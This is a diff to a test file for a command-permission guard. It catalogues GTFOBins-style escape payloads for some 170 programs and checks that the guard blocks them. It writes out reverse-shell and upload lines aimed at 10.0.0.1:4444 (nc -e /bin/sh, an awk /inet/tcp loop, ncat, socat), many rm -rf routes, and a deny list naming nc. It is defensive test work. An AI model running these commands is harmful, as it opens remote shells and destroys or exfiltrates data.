@@ -10,8 +10,13 @@
 //     program's own language the guard cannot read): the guard does not allow, and says why;
 //   - not-allow: the payload writes, uploads or downloads through an option the allow rule does not
 //     name: the guard does not allow, and names the construct.
-// `confirmed`: the payload was run on this machine with the inner command replaced by `touch MARKER`
-// in a scratch directory (or the write aimed at a scratch file), and the marker appeared.
+// CONFIRMED_HERE lists the payloads run for real on this machine with the inner command replaced by
+// `touch MARKER` (or the write aimed at a scratch file): the marker appeared. The last describe runs them
+// again where the program is installed, when GG_GTFOBINS_RUN=1 (it starts some 170 real programs).
+import { spawnSync } from "node:child_process";
+import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { parsePolicy, permissionPolicy } from "../src/policy/index.js";
 
@@ -22,8 +27,6 @@ interface GtfoCase {
   readonly expect: Expectation;
   /** What the reason names (required for ask: why the guard cannot tell). */
   readonly reason?: RegExp;
-  /** Run for real here with the inner command replaced by `touch MARKER` (see the header). */
-  readonly confirmed?: true;
 }
 
 interface GtfoBinary {
@@ -42,58 +45,58 @@ const DENY = ["rm:*", "nc:*"];
 const CANNOT = /cannot tell|cannot read|does not read|standard input|only known when it runs/;
 const WRITES = /writes a file|writes the file|writes files/;
 
-const d = (command: string, confirmed?: true): GtfoCase => ({ command, expect: "deny", ...(confirmed ? { confirmed } : {}) });
-const w = (command: string, reason: RegExp = WRITES, confirmed?: true): GtfoCase => ({ command, expect: "not-allow", reason, ...(confirmed ? { confirmed } : {}) });
+const d = (command: string): GtfoCase => ({ command, expect: "deny" });
+const w = (command: string, reason: RegExp = WRITES): GtfoCase => ({ command, expect: "not-allow", reason });
 const n = (command: string, reason?: RegExp): GtfoCase => ({ command, expect: "not-allow", ...(reason ? { reason } : {}) });
 const a = (command: string, reason: RegExp = CANNOT): GtfoCase => ({ command, expect: "ask", reason });
 
-const shell = (bin: string, confirmed?: true): GtfoBinary => ({
+const shell = (bin: string): GtfoBinary => ({
   bin,
   functions: "Shell, Command",
-  cases: [d(`${bin} -c '${X}'`, confirmed), d(`echo '${X}' | ${bin}`), n(`${bin} -c 'echo DATA > /etc/x'`, /runs the command line given with -c|writes a file/)],
+  cases: [d(`${bin} -c '${X}'`), d(`echo '${X}' | ${bin}`), n(`${bin} -c 'echo DATA > /etc/x'`, /runs the command line given with -c|writes a file/)],
 });
 
 const BINARIES: readonly GtfoBinary[] = [
   // ---- shells ----
-  shell("ash", true),
-  shell("bash", true),
+  shell("ash"),
+  shell("bash"),
   shell("csh"),
-  shell("dash", true),
+  shell("dash"),
   shell("fish"),
   shell("ksh"),
   shell("mksh"),
   shell("posh"),
   shell("rc"),
-  shell("sh", true),
+  shell("sh"),
   shell("tcsh"),
   shell("yash"),
   shell("zsh"),
-  { bin: "busybox", functions: "Shell, Command, Reverse shell, File upload", cases: [d(`busybox sh -c '${X}'`, true), d(`busybox ${X}`, true), d("busybox nc -e /bin/sh 10.0.0.1 4444"), n("busybox httpd -f -p 12345 -h /")] },
+  { bin: "busybox", functions: "Shell, Command, Reverse shell, File upload", cases: [d(`busybox sh -c '${X}'`), d(`busybox ${X}`), d("busybox nc -e /bin/sh 10.0.0.1 4444"), n("busybox httpd -f -p 12345 -h /")] },
   // ---- wrappers that run the command after their options ----
-  { bin: "env", functions: "Shell", cases: [d(`env ${X}`, true), d(`env -i ${X}`, true), d(`env -S '${X}'`, true)] },
-  { bin: "nice", functions: "Shell", cases: [d(`nice ${X}`, true), d(`nice -n 5 ${X}`, true)] },
-  { bin: "ionice", functions: "Shell", cases: [d(`ionice ${X}`, true), d(`ionice -c 3 ${X}`)] },
-  { bin: "stdbuf", functions: "Shell", cases: [d(`stdbuf -i0 ${X}`, true), d(`stdbuf -o L ${X}`)] },
-  { bin: "taskset", functions: "Shell", cases: [d(`taskset 1 ${X}`, true), d(`taskset -c 0 ${X}`)] },
-  { bin: "timeout", functions: "Shell", cases: [d(`timeout 7d ${X}`, true), d(`timeout --foreground 7d ${X}`)] },
-  { bin: "time", functions: "Shell, File write", allow: ["time:*", "/usr/bin/time:*"], cases: [d(`time ${X}`, true), d(`/usr/bin/time ${X}`), w("/usr/bin/time -o /etc/x echo DATA", /time (writes a file through -o|runs the command)/)] },
-  { bin: "setarch", functions: "Shell", cases: [d(`setarch x86_64 ${X}`, true), d(`setarch x86_64 -R ${X}`)] },
-  { bin: "flock", functions: "Shell", cases: [d(`flock -u / ${X}`, true), d(`flock /tmp/l -c '${X}'`, true)] },
-  { bin: "nohup", functions: "Shell, Command", cases: [d(`nohup ${X}`, true)] },
-  { bin: "setsid", functions: "Shell", cases: [d(`setsid ${X}`, true)] },
+  { bin: "env", functions: "Shell", cases: [d(`env ${X}`), d(`env -i ${X}`), d(`env -S '${X}'`)] },
+  { bin: "nice", functions: "Shell", cases: [d(`nice ${X}`), d(`nice -n 5 ${X}`)] },
+  { bin: "ionice", functions: "Shell", cases: [d(`ionice ${X}`), d(`ionice -c 3 ${X}`)] },
+  { bin: "stdbuf", functions: "Shell", cases: [d(`stdbuf -i0 ${X}`), d(`stdbuf -o L ${X}`)] },
+  { bin: "taskset", functions: "Shell", cases: [d(`taskset 1 ${X}`), d(`taskset -c 0 ${X}`)] },
+  { bin: "timeout", functions: "Shell", cases: [d(`timeout 7d ${X}`), d(`timeout --foreground 7d ${X}`)] },
+  { bin: "time", functions: "Shell, File write", allow: ["time:*", "/usr/bin/time:*"], cases: [d(`time ${X}`), d(`/usr/bin/time ${X}`), w("/usr/bin/time -o /etc/x echo DATA", /time (writes a file through -o|runs the command)/)] },
+  { bin: "setarch", functions: "Shell", cases: [d(`setarch x86_64 ${X}`), d(`setarch x86_64 -R ${X}`)] },
+  { bin: "flock", functions: "Shell", cases: [d(`flock -u / ${X}`), d(`flock /tmp/l -c '${X}'`)] },
+  { bin: "nohup", functions: "Shell, Command", cases: [d(`nohup ${X}`)] },
+  { bin: "setsid", functions: "Shell", cases: [d(`setsid ${X}`)] },
   { bin: "chroot", functions: "Shell", cases: [d(`chroot / ${X}`)] },
   { bin: "unshare", functions: "Shell", cases: [d(`unshare ${X}`), d(`unshare -r ${X}`)] },
   { bin: "nsenter", functions: "Shell", cases: [d(`nsenter ${X}`), d(`nsenter -t 1 -m ${X}`)] },
-  { bin: "strace", functions: "Shell, File write", cases: [d(`strace -o /dev/null ${X}`, true), w("strace -s 999 -o /etc/x strace - DATA")] },
+  { bin: "strace", functions: "Shell, File write", cases: [d(`strace -o /dev/null ${X}`), w("strace -s 999 -o /etc/x strace - DATA")] },
   { bin: "ltrace", functions: "Shell, File write", cases: [d(`ltrace -b -L ${X}`), w("ltrace -s 999 -o /etc/x ltrace -F DATA")] },
   { bin: "valgrind", functions: "Shell", cases: [d(`valgrind ${X}`)] },
   { bin: "start-stop-daemon", functions: "Shell", cases: [d("start-stop-daemon -n x -S -x /bin/rm -- -rf /tmp/x"), d("start-stop-daemon --start --startas /bin/rm --name x -- -rf /tmp/x")] },
   { bin: "run-parts", functions: "Shell", cases: [a("run-parts --new-session --regex '^rm$' /bin", /run-parts|directory/), a("run-parts /tmp/d", /run-parts|directory/)] },
-  { bin: "xargs", functions: "Shell, File read", cases: [d(`xargs -a /dev/null ${X}`, true), d(`echo x | xargs ${X}`, true), d(`xargs -I{} sh -c '${X}' < /dev/null`)] },
+  { bin: "xargs", functions: "Shell, File read", cases: [d(`xargs -a /dev/null ${X}`), d(`echo x | xargs ${X}`), d(`xargs -I{} sh -c '${X}' < /dev/null`)] },
   { bin: "watch", functions: "Shell", cases: [d(`watch -x ${X}`), d(`watch '${X}'`)] },
-  { bin: "script", functions: "Shell, File write", cases: [d(`script -q /dev/null -c '${X}'`, true), d(`script -qc '${X}' /dev/null`, true), w("script -q -c 'echo DATA' /etc/x", /script writes/, true)] },
+  { bin: "script", functions: "Shell, File write", cases: [d(`script -q /dev/null -c '${X}'`), d(`script -qc '${X}' /dev/null`), w("script -q -c 'echo DATA' /etc/x", /script writes/)] },
   { bin: "rlwrap", functions: "Shell, File write", cases: [d(`rlwrap ${X}`), w("rlwrap -l /etc/x echo DATA", /rlwrap writes/)] },
-  { bin: "logsave", functions: "Shell, File write", cases: [d(`logsave /dev/null ${X}`, true), w("logsave /etc/x echo DATA", /logsave writes/, true)] },
+  { bin: "logsave", functions: "Shell, File write", cases: [d(`logsave /dev/null ${X}`), w("logsave /etc/x echo DATA", /logsave writes/)] },
   { bin: "sudo", functions: "Shell", cases: [d(`sudo ${X}`), d(`sudo -u root -- ${X}`)] },
   { bin: "cpulimit", functions: "Shell", cases: [d(`cpulimit -l 100 -f ${X}`), d(`cpulimit -l 100 -f -- ${X}`)] },
   { bin: "distcc", functions: "Shell", cases: [d(`distcc ${X}`)] },
@@ -111,7 +114,7 @@ const BINARIES: readonly GtfoBinary[] = [
   { bin: "chrt", functions: "Shell", cases: [d(`chrt -o 0 ${X}`)] },
   { bin: "prlimit", functions: "Shell", cases: [d(`prlimit ${X}`)] },
   { bin: "systemd-run", functions: "Shell", cases: [d(`systemd-run --user -t ${X}`), d(`systemd-run -S ${X}`)] },
-  { bin: "ld.so", functions: "Shell", allow: ["/lib64/ld-linux-x86-64.so.2:*"], cases: [d("/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /tmp/x", true)] },
+  { bin: "ld.so", functions: "Shell", allow: ["/lib64/ld-linux-x86-64.so.2:*"], cases: [d("/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /tmp/x")] },
   { bin: "ssh-agent", functions: "Shell", cases: [d(`ssh-agent ${X}`)] },
   { bin: "sshpass", functions: "Shell", cases: [d(`sshpass ${X}`), d(`sshpass -p pw ${X}`)] },
   { bin: "unbuffer", functions: "Shell", cases: [d(`unbuffer ${X}`)] },
@@ -125,23 +128,23 @@ const BINARIES: readonly GtfoBinary[] = [
     bin: "awk",
     functions: "Shell, Command, File write, Reverse shell",
     cases: [
-      d(`awk 'BEGIN {system("${X}")}'`, true),
-      d(`awk 'BEGIN {while ("${X}" | getline) print}'`, true),
-      w(`awk 'BEGIN {print "DATA" > "/etc/x"}'`, /awk writes a file/, true),
+      d(`awk 'BEGIN {system("${X}")}'`),
+      d(`awk 'BEGIN {while ("${X}" | getline) print}'`),
+      w(`awk 'BEGIN {print "DATA" > "/etc/x"}'`, /awk writes a file/),
       n(`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while (1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}'`),
     ],
   },
-  { bin: "gawk", functions: "Shell, File write", cases: [d(`gawk 'BEGIN {system("${X}")}'`, true), w(`gawk 'BEGIN {print "DATA" > "/etc/x"}'`, /gawk writes a file/, true), n("gawk -f /tmp/x.awk", /-f/)] },
-  { bin: "mawk", functions: "Shell, File write", cases: [d(`mawk 'BEGIN {system("${X}")}'`, true), w(`mawk 'BEGIN {print "DATA" > "/etc/x"}'`, /mawk writes a file/, true)] },
+  { bin: "gawk", functions: "Shell, File write", cases: [d(`gawk 'BEGIN {system("${X}")}'`), w(`gawk 'BEGIN {print "DATA" > "/etc/x"}'`, /gawk writes a file/), n("gawk -f /tmp/x.awk", /-f/)] },
+  { bin: "mawk", functions: "Shell, File write", cases: [d(`mawk 'BEGIN {system("${X}")}'`), w(`mawk 'BEGIN {print "DATA" > "/etc/x"}'`, /mawk writes a file/)] },
   { bin: "nawk", functions: "Shell, File write", cases: [d(`nawk 'BEGIN {system("${X}")}'`), w(`nawk 'BEGIN {print "DATA" > "/etc/x"}'`, /nawk writes a file/)] },
-  { bin: "perl", functions: "Shell, Reverse shell, File write", cases: [d(`perl -e 'exec "${X}";'`, true), d(`perl -e 'system("${X}")'`, true), d(`perl -ne 'system("${X}")' /dev/null`), a(`perl -e 'exec "r"."m -rf /tmp/x";'`), d(`echo 'system("${X}")' | perl`)] },
-  { bin: "python3", functions: "Shell, Reverse shell, File write, File upload", cases: [d(`python3 -c 'import os; os.system("${X}")'`, true), d(`python3 -c 'import pty; pty.spawn("rm")'`), a(`python3 -c 'import os; os.system("r" + "m -rf /tmp/x")'`), d(`echo 'import os; os.system("${X}")' | python3`, true)] },
+  { bin: "perl", functions: "Shell, Reverse shell, File write", cases: [d(`perl -e 'exec "${X}";'`), d(`perl -e 'system("${X}")'`), d(`perl -ne 'system("${X}")' /dev/null`), a(`perl -e 'exec "r"."m -rf /tmp/x";'`), d(`echo 'system("${X}")' | perl`)] },
+  { bin: "python3", functions: "Shell, Reverse shell, File write, File upload", cases: [d(`python3 -c 'import os; os.system("${X}")'`), d(`python3 -c 'import pty; pty.spawn("rm")'`), a(`python3 -c 'import os; os.system("r" + "m -rf /tmp/x")'`), d(`echo 'import os; os.system("${X}")' | python3`)] },
   { bin: "ruby", functions: "Shell, File write", cases: [d(`ruby -e 'exec "${X}"'`), d(`ruby -e 'system("${X}")'`), d(`echo 'exec "${X}"' | ruby`)] },
   { bin: "irb", functions: "Shell", cases: [d(`echo 'exec "${X}"' | irb`)] },
   { bin: "php", functions: "Shell, Command, File write", cases: [d(`php -r 'system("${X}");'`), d(`php -r 'passthru("${X}");'`), d(`php -r 'pcntl_exec("/bin/rm", ["-rf", "/tmp/x"]);'`)] },
   { bin: "lua", functions: "Shell, File write", cases: [d(`lua -e 'os.execute("${X}")'`), a(`lua -e 'io.open("/etc/x", "w"):write("DATA")'`, /lua runs the code/)] },
-  { bin: "node", functions: "Shell, File write, Reverse shell", cases: [d(`node -e 'require("child_process").spawn("rm", ["-rf", "/tmp/x"], {stdio: [0, 1, 2]})'`, true), d(`node -e 'require("child_process").execSync("${X}")'`, true)] },
-  { bin: "tclsh", functions: "Shell", cases: [d(`echo 'exec ${X}' | tclsh`, true)] },
+  { bin: "node", functions: "Shell, File write, Reverse shell", cases: [d(`node -e 'require("child_process").spawn("rm", ["-rf", "/tmp/x"], {stdio: [0, 1, 2]})'`), d(`node -e 'require("child_process").execSync("${X}")'`)] },
+  { bin: "tclsh", functions: "Shell", cases: [d(`echo 'exec ${X}' | tclsh`)] },
   { bin: "wish", functions: "Shell", cases: [d(`echo 'exec ${X}' | wish`)] },
   { bin: "expect", functions: "Shell", cases: [d(`expect -c 'spawn ${X};interact'`), d(`expect -c 'exec ${X}'`)] },
   { bin: "jrunscript", functions: "Shell, File write", cases: [d(`jrunscript -e 'exec("${X}")'`)] },
@@ -157,8 +160,8 @@ const BINARIES: readonly GtfoBinary[] = [
   { bin: "guile", functions: "Shell", cases: [d(`guile -c '(system "${X}")'`)] },
   { bin: "slsh", functions: "Shell", cases: [d(`slsh -e 'system("${X}")'`)] },
   { bin: "bpftrace", functions: "Shell", cases: [d(`bpftrace --unsafe -e 'BEGIN {system("${X}"); exit()}'`)] },
-  { bin: "dc", functions: "Shell", cases: [d(`dc -e '!${X}'`, true), d(`echo '!${X}' | dc`, true)] },
-  { bin: "m4", functions: "Command", cases: [d(`echo 'esyscmd(${X})' | m4`, true), d(`m4 <<< 'syscmd(${X})'`, true)] },
+  { bin: "dc", functions: "Shell", cases: [d(`dc -e '!${X}'`), d(`echo '!${X}' | dc`)] },
+  { bin: "m4", functions: "Command", cases: [d(`echo 'esyscmd(${X})' | m4`), d(`m4 <<< 'syscmd(${X})'`)] },
   { bin: "knife", functions: "Shell", cases: [d(`knife exec -E 'exec "${X}"'`)] },
   { bin: "puppet", functions: "Shell", cases: [d(`puppet apply -e "exec { '${X}': }"`), a(`puppet apply -e "exec { 'r\${m}': }"`, /puppet runs (the )?code/)] },
   { bin: "latexmk", functions: "Shell", cases: [d(`latexmk -e 'exec("${X}")'`)] },
@@ -173,7 +176,7 @@ const BINARIES: readonly GtfoBinary[] = [
     bin: "vim",
     functions: "Shell, Command, File write",
     cases: [
-      d(`vim -c ':!${X}'`, true),
+      d(`vim -c ':!${X}'`),
       d(`vim -c ':py3 import os; os.system("${X}")'`),
       d(`vim -c ':lua os.execute("${X}")'`),
       w("vim -c ':w /etc/x' -c ':q'", /vim runs the editor command|cannot/),
@@ -188,13 +191,13 @@ const BINARIES: readonly GtfoBinary[] = [
   { bin: "vimdiff", functions: "Shell", cases: [d(`vimdiff -c ':!${X}'`)] },
   { bin: "nvim", functions: "Shell", cases: [d(`nvim -c ':!${X}'`), d(`nvim --cmd ':lua os.execute("${X}")'`)] },
   { bin: "ex", functions: "Shell", cases: [d(`ex -c ':!${X}'`), d(`echo '!${X}' | ex`)] },
-  { bin: "ed", functions: "Shell, File write", cases: [d(`echo '!${X}' | ed`, true), d(`ed -s a.txt <<< '!${X}'`, true), d(`printf '!${X}\\nq\\n' | ed`), a("cat cmds.txt | ed", /ed|standard input/)] },
+  { bin: "ed", functions: "Shell, File write", cases: [d(`echo '!${X}' | ed`), d(`ed -s a.txt <<< '!${X}'`), d(`printf '!${X}\\nq\\n' | ed`), a("cat cmds.txt | ed", /ed|standard input/)] },
   { bin: "emacs", functions: "Shell, File write", cases: [d(`emacs --batch --eval '(shell-command "${X}")'`), a(`emacs -Q -nw --eval '(term "/bin/sh")'`, /emacs runs (the )?code/), a("emacs --batch --eval '(write-region \"DATA\" nil \"/etc/x\")'", /emacs runs (the )?code/)] },
   { bin: "nano", functions: "Shell", cases: [d(`nano -s '${X}' a.txt`), d(`nano --speller='${X}' a.txt`)] },
   { bin: "pico", functions: "Shell", cases: [d(`pico -s '${X}' a.txt`)] },
   { bin: "less", functions: "Shell, File write", cases: [d(`LESSOPEN='|${X} %s' less a.txt`), w("less -o /etc/x a.txt", /less writes/), d(`less +'!${X}' a.txt`)] },
   { bin: "man", functions: "Shell", cases: [d(`man -P '${X}' ls`), d(`MANPAGER='${X}' man ls`), d(`PAGER='${X}' man ls`)] },
-  { bin: "git", functions: "Shell, File write", cases: [d(`PAGER='${X}' git -p help config`, true), d(`git -p -c core.pager='${X}' help config`), d(`GIT_EDITOR='${X}' git commit`), w("git apply --unsafe-paths --directory / x.patch", /git apply writes/), w("git diff --no-index --output=/etc/x a.txt b.txt", /git diff writes/)] },
+  { bin: "git", functions: "Shell, File write", cases: [d(`PAGER='${X}' git -p help config`), d(`git -p -c core.pager='${X}' help config`), d(`GIT_EDITOR='${X}' git commit`), w("git apply --unsafe-paths --directory / x.patch", /git apply writes/), w("git diff --no-index --output=/etc/x a.txt b.txt", /git diff writes/)] },
   { bin: "journalctl", functions: "Shell", cases: [d(`SYSTEMD_PAGER='${X}' journalctl`), d(`PAGER='${X}' journalctl`)] },
   { bin: "systemctl", functions: "Shell", cases: [d(`SYSTEMD_PAGER='${X}' systemctl status`)] },
   { bin: "dmesg", functions: "Shell", cases: [d(`PAGER='${X}' dmesg -H`)] },
@@ -209,26 +212,26 @@ const BINARIES: readonly GtfoBinary[] = [
   { bin: "lftp", functions: "Shell", cases: [d(`lftp -c '!${X}'`)] },
   { bin: "cpan", functions: "Shell", cases: [d(`echo '! system("${X}")' | cpan`)] },
   { bin: "debugfs", functions: "Shell", cases: [d(`echo '!${X}' | debugfs`)] },
-  { bin: "pic", functions: "Shell", cases: [d(`printf '.PS\\nsh X ${X} X\\n.PE\\n' | pic -U`, true), a("pic -U a.pic", /pic/)] },
-  { bin: "gdb", functions: "Shell, File write, Reverse shell", cases: [d(`gdb -nx -ex '!${X}' -ex quit`, true), d(`gdb -nx -ex 'python import os; os.system("${X}")' -ex quit`), a("gdb -nx -ex 'dump value \"/etc/x\" \"DATA\"' -ex quit"), d(`echo 'shell ${X}' | gdb -nx`)] },
+  { bin: "pic", functions: "Shell", cases: [d(`printf '.PS\\nsh X ${X} X\\n.PE\\n' | pic -U`), a("pic -U a.pic", /pic/)] },
+  { bin: "gdb", functions: "Shell, File write, Reverse shell", cases: [d(`gdb -nx -ex '!${X}' -ex quit`), d(`gdb -nx -ex 'python import os; os.system("${X}")' -ex quit`), a("gdb -nx -ex 'dump value \"/etc/x\" \"DATA\"' -ex quit"), d(`echo 'shell ${X}' | gdb -nx`)] },
   { bin: "mysql", functions: "Shell", cases: [d(`mysql -e '\\! ${X}'`), d(`mysql -e 'system ${X}'`), d(`mysql --pager='${X}' -e 'select 1'`), d(`echo '\\! ${X}' | mysql`)] },
   { bin: "psql", functions: "Shell", cases: [d(`psql -c '\\! ${X}'`), d(`PSQL_PAGER='${X}' psql`), d(`echo '\\! ${X}' | psql`)] },
-  { bin: "sqlite3", functions: "Shell, File write", cases: [d(`sqlite3 /dev/null '.shell ${X}'`, true), d(`echo '.shell ${X}' | sqlite3`, true), n(`sqlite3 /dev/null -cmd '.output /etc/x' 'select 1;'`, /sqlite3/)] },
+  { bin: "sqlite3", functions: "Shell, File write", cases: [d(`sqlite3 /dev/null '.shell ${X}'`), d(`echo '.shell ${X}' | sqlite3`), n(`sqlite3 /dev/null -cmd '.output /etc/x' 'select 1;'`, /sqlite3/)] },
   { bin: "tmux", functions: "Shell, Command", cases: [d(`tmux new-session -d '${X}'`), d(`tmux -c '${X}'`)] },
   { bin: "tmate", functions: "Shell, Command", cases: [d(`tmate -c '${X}'`), d(`tmate new-session -d '${X}'`)] },
   { bin: "screen", functions: "Shell, File write", cases: [d(`screen -dm ${X}`), w("screen -L -Logfile /etc/x echo DATA", /screen writes/)] },
   // ---- options and subcommands that run a command ----
-  { bin: "find", functions: "Shell, File write", cases: [d(`find . -exec ${X} \\; -quit`, true), d(`find . -execdir ${X} \\; -quit`), w("find / -fprintf /etc/x DATA -quit", /find writes/)] },
-  { bin: "sed", functions: "Shell, Command, File write", cases: [d(`sed -n '1e ${X}' /etc/hosts`, true), d(`sed 's/.*/${X.replace(/\//g, "\\/")}/e' /etc/hosts`, true), w("sed -n 'w /etc/x' a.txt", /sed writes/)] },
-  { bin: "tar", functions: "Shell, Command, File upload", cases: [d(`tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='${X}'`, true), d(`tar xf /dev/null -I '${X}'`), d(`tar cf h:/tmp/y a.txt --rsh-command=rm`), n("tar cf h:/tmp/y /etc/x --rsh-command=/usr/bin/ssh", /rsh-command/)] },
-  { bin: "zip", functions: "Shell", cases: [d(`zip /tmp/y.zip /etc/hosts -T -TT '${X} #'`, true)] },
+  { bin: "find", functions: "Shell, File write", cases: [d(`find . -exec ${X} \\; -quit`), d(`find . -execdir ${X} \\; -quit`), w("find / -fprintf /etc/x DATA -quit", /find writes/)] },
+  { bin: "sed", functions: "Shell, Command, File write", cases: [d(`sed -n '1e ${X}' /etc/hosts`), d(`sed 's/.*/${X.replace(/\//g, "\\/")}/e' /etc/hosts`), w("sed -n 'w /etc/x' a.txt", /sed writes/)] },
+  { bin: "tar", functions: "Shell, Command, File upload", cases: [d(`tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='${X}'`), d(`tar xf /dev/null -I '${X}'`), d(`tar cf h:/tmp/y a.txt --rsh-command=rm`), n("tar cf h:/tmp/y /etc/x --rsh-command=/usr/bin/ssh", /rsh-command/)] },
+  { bin: "zip", functions: "Shell", cases: [d(`zip /tmp/y.zip /etc/hosts -T -TT '${X} #'`)] },
   { bin: "cpio", functions: "Shell, File write", cases: [d("cpio -o --rsh-command rm -F h:/tmp/y < /dev/null"), d("cpio -o --rsh-command=rm -F h:/tmp/y")] },
   { bin: "rsync", functions: "Shell, File upload", cases: [d(`rsync -e 'sh -c "${X}"' 127.0.0.1:/dev/null`), d(`rsync --rsh='${X}' 127.0.0.1:/dev/null .`)] },
   { bin: "ssh", functions: "Shell, File upload", cases: [d(`ssh -o ProxyCommand=';${X} 0<&2 1>&2' x`), d(`ssh -o PermitLocalCommand=yes -o LocalCommand='${X}' h`), d(`ssh localhost ${X}`), n("ssh -F /tmp/cfg h", /-F/)] },
   { bin: "scp", functions: "Shell", cases: [d("scp -S rm x y:"), d(`scp -o ProxyCommand=';${X} 0<&2 1>&2' x y:`)] },
-  { bin: "split", functions: "Shell, Command", cases: [d(`split --filter='${X}' /dev/stdin`), d(`split --filter '${X}' a.txt`, true)] },
+  { bin: "split", functions: "Shell, Command", cases: [d(`split --filter='${X}' /dev/stdin`), d(`split --filter '${X}' a.txt`)] },
   { bin: "csvtool", functions: "Shell, File write", cases: [d(`csvtool call '${X};false' a.csv`), w("csvtool trim t -o /etc/x a.csv", /csvtool writes/)] },
-  { bin: "make", functions: "Shell, File write", cases: [d(`make -s --eval=$'x:\\n\\t-${X}'`, true), d("make SHELL=rm x"), n("make -f /tmp/mk", /-f/)] },
+  { bin: "make", functions: "Shell, File write", cases: [d(`make -s --eval=$'x:\\n\\t-${X}'`), d("make SHELL=rm x"), n("make -f /tmp/mk", /-f/)] },
   { bin: "gcc", functions: "Shell", cases: [d("gcc -wrapper rm,-rf,/tmp/x .")] },
   { bin: "gem", functions: "Shell", cases: [d(`gem open -e '${X}' rdoc`), d(`gem open --editor '${X}' rdoc`)] },
   { bin: "npm", functions: "Shell", cases: [d(`npm exec -c '${X}'`), d(`npm run test --script-shell=rm`)] },
@@ -241,7 +244,7 @@ const BINARIES: readonly GtfoBinary[] = [
   { bin: "openvpn", functions: "Shell", cases: [d(`openvpn --dev null --script-security 2 --up '${X}'`), d(`openvpn --config /tmp/x.ovpn --route-up '${X}'`)] },
   { bin: "scrot", functions: "Shell", cases: [d(`scrot -e '${X}'`), d(`scrot --exec '${X}'`)] },
   { bin: "socket", functions: "Shell, Reverse shell", cases: [d(`socket -qvp '${X}' h 4444`)] },
-  { bin: "socat", functions: "Shell, Reverse shell, File write, File upload, File download", cases: [d(`socat stdin exec:'${X}'`, true), d(`socat - SYSTEM:'${X}'`, true), n("socat -u tcp-connect:10.0.0.1:4444 open:/etc/x,creat", /socat/), n("socat -u file:/etc/x tcp-connect:10.0.0.1:4444", /socat/)] },
+  { bin: "socat", functions: "Shell, Reverse shell, File write, File upload, File download", cases: [d(`socat stdin exec:'${X}'`), d(`socat - SYSTEM:'${X}'`), n("socat -u tcp-connect:10.0.0.1:4444 open:/etc/x,creat", /socat/), n("socat -u file:/etc/x tcp-connect:10.0.0.1:4444", /socat/)] },
   { bin: "ncat", functions: "Shell, Reverse shell", cases: [d(`ncat -e /bin/rm 10.0.0.1 4444`), d(`ncat -c '${X}' 10.0.0.1 4444`), d(`ncat --sh-exec '${X}' 10.0.0.1 4444`), n("ncat --lua-exec /tmp/x.lua 10.0.0.1 4444", /ncat/)] },
   { bin: "nmap", functions: "Shell, File write, File upload", cases: [n("nmap --script=/tmp/x.nse", /nmap runs the code/), w("nmap -oG=/etc/x DATA", /nmap writes/), w("nmap -oN /etc/x 127.0.0.1", /nmap writes/)] },
   { bin: "tcpdump", functions: "Command", cases: [d("tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z rm -Z root")] },
@@ -253,20 +256,202 @@ const BINARIES: readonly GtfoBinary[] = [
   { bin: "rpmquery", functions: "Shell", cases: [d(`rpmquery --eval '%(${X})'`)] },
   { bin: "rpmdb", functions: "Shell", cases: [d(`rpmdb --eval '%(${X})'`)] },
   { bin: "exiftool", functions: "File write", cases: [w("exiftool -filename=/etc/x a.jpg", /exiftool writes/), w("exiftool -o /etc/x a.jpg", /exiftool writes/)] },
-  { bin: "iconv", functions: "File write", cases: [w("iconv -f 8859_1 -t 8859_1 -o /etc/x a.txt", /iconv writes/, true)] },
-  { bin: "shuf", functions: "File write", cases: [w("shuf -e DATA -o /etc/x", /shuf writes/, true)] },
-  { bin: "uniq", functions: "File write", cases: [w("uniq a.txt /etc/x", /uniq writes/, true)] },
-  { bin: "xxd", functions: "File write", cases: [w("echo 44415441 | xxd -r -p - /etc/x", /xxd writes/, true), w("xxd -r a.hex /etc/x", /xxd writes/)] },
+  { bin: "iconv", functions: "File write", cases: [w("iconv -f 8859_1 -t 8859_1 -o /etc/x a.txt", /iconv writes/)] },
+  { bin: "shuf", functions: "File write", cases: [w("shuf -e DATA -o /etc/x", /shuf writes/)] },
+  { bin: "uniq", functions: "File write", cases: [w("uniq a.txt /etc/x", /uniq writes/)] },
+  { bin: "xxd", functions: "File write", cases: [w("echo 44415441 | xxd -r -p - /etc/x", /xxd writes/), w("xxd -r a.hex /etc/x", /xxd writes/)] },
   { bin: "uudecode", functions: "File write", cases: [w("uudecode -o /etc/x a.uu", /uudecode writes/)] },
   { bin: "pandoc", functions: "File write", cases: [w("echo DATA | pandoc -t plain -o /etc/x", /pandoc writes/)] },
-  { bin: "dd", functions: "File write", cases: [w("echo DATA | dd of=/etc/x", /dd writes/, true)] },
-  { bin: "sort", functions: "File write", cases: [w("sort -o /etc/x a.txt", /sort writes/, true)] },
+  { bin: "dd", functions: "File write", cases: [w("echo DATA | dd of=/etc/x", /dd writes/)] },
+  { bin: "sort", functions: "File write", cases: [w("sort -o /etc/x a.txt", /sort writes/)] },
   { bin: "cowsay", functions: "Shell", cases: [n("cowsay -f /tmp/x.cow hi", /cowsay runs the code/)] },
   { bin: "neofetch", functions: "Shell", cases: [n("neofetch --config /tmp/x.conf", /neofetch runs the code/)] },
   { bin: "facter", functions: "Shell", cases: [n("FACTERLIB=/tmp/d facter", /FACTERLIB/)] },
   { bin: "nroff", functions: "Shell", cases: [n("GROFF_BIN_PATH=/tmp/d nroff", /GROFF_BIN_PATH/)] },
   { bin: "groff", functions: "Shell", cases: [d(`echo '.sy ${X}' | groff -U`), a("groff -U a.ms", /groff -U/), a("cat a.ms | groff -U", /groff reads commands/)] },
 ];
+
+/**
+ * Payloads run on this machine (Debian 12; bash, dash, busybox, ksh, zsh, tcsh, mksh, yash, posh, gawk, mawk, perl,
+ * python3, node, lua, tclsh, expect, vim, ed, gdb, sqlite3, mysql, psql, socat, ncat, tar, zip, rsync, strace, ltrace,
+ * valgrind, ...) with the inner command replaced by `touch MARKER` and `/etc/x` by a scratch file, in a scratch
+ * directory with standard input from /dev/null: the marker (or the file) appeared. Programs not installed here, or
